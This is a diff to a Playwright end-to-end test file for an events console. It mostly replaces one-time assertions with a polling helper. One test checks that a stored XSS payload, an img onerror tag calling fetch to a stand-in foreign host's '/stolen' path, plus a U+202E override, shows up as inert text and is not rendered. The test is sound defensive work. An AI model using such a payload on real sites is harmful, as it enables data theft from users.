@@ -3,6 +3,7 @@ import type { Page } from 'playwright-core';
 import { FOREIGN_HOST, makeEvent } from '../../apps/console/mock/events-data.ts';
 import { setStage, until } from './console/stage.ts';
 import { withoutPolls } from './console/without-polls.ts';
+import { shows } from './console/shows.ts';
 
 const stage = setStage();
 
@@ -14,6 +15,7 @@ describe('events', () => {
     await stage.visit(page, '/');
     await page.waitForSelector('article');
     await page.click('role=checkbox[name="Select all on this page"]');
+    await page.waitForSelector('article[data-selected=true]');
     const chosen = await page.locator('article[data-selected=true]').count();
     expect(chosen).toBeGreaterThan(3);
     await page.locator('role=group[name="Set status"]').first().getByText('Fixed').click();
@@ -50,10 +52,10 @@ describe('events', () => {
     await page.waitForURL('**/?status=all&source_type=github');
     await page.goBack();
     await page.waitForURL('**/?status=all&page=2');
-    expect(await page.locator('role=radio[name="All"]').isChecked()).toBe(true);
+    await shows(() => page.locator('role=radio[name="All"]').isChecked(), true);
     await stage.visit(page, '/?status=closed&size=20');
     await page.waitForSelector('article');
-    expect(await page.locator('role=radio[name="Closed"]').isChecked()).toBe(true);
+    await shows(() => page.locator('role=radio[name="Closed"]').isChecked(), true);
   });
 
   test('events of the same file change together where the person says so', async () => {
@@ -79,7 +81,7 @@ describe('events', () => {
     const first = await page.locator('article').first().getAttribute('id');
     stage.world().events = [makeEvent(60, { status: 'open' }), ...stage.world().events];
     await page.waitForSelector('text=1 new: show');
-    expect(await page.locator('article').first().getAttribute('id')).toBe(first);
+    await shows(() => page.locator('article').first().getAttribute('id'), first);
     await page.click('text=1 new: show');
     await page.waitForFunction((id) => document.querySelector('article')?.id !== id, first);
   });
@@ -96,7 +98,7 @@ describe('events', () => {
     stage.world().events = [makeEvent(61, { status: 'open' }), ...stage.world().events];
     stage.mock().tell(['events']);
     await page.waitForSelector('text=1 new: show');
-    expect(await page.locator('article').first().getAttribute('id')).toBe(first);
+    await shows(() => page.locator('article').first().getAttribute('id'), first);
   });
 
   test('keys choose and change; they are listed under ?', async () => {
@@ -121,7 +123,7 @@ describe('events', () => {
     const text = await page.locator('article', { hasText: 'web/index.html' }).first().innerText();
     expect(text).toContain(`<img src=x onerror="fetch('${FOREIGN_HOST}/stolen')">`);
     expect(text).toContain('U+202E');
-    expect(await page.locator('article img, article script').count()).toBe(0);
+    await shows(() => page.locator('article img, article script').count(), 0);
     expect(await page.evaluate('window.hacked')).toBeUndefined();
     const addresses = await page.locator('article a').evaluateAll((links) => links.map((link) => link.getAttribute('href') ?? ''));
     expect(addresses.filter((address) => !/^(https?:\/\/|\/)/.test(address))).toEqual([]);
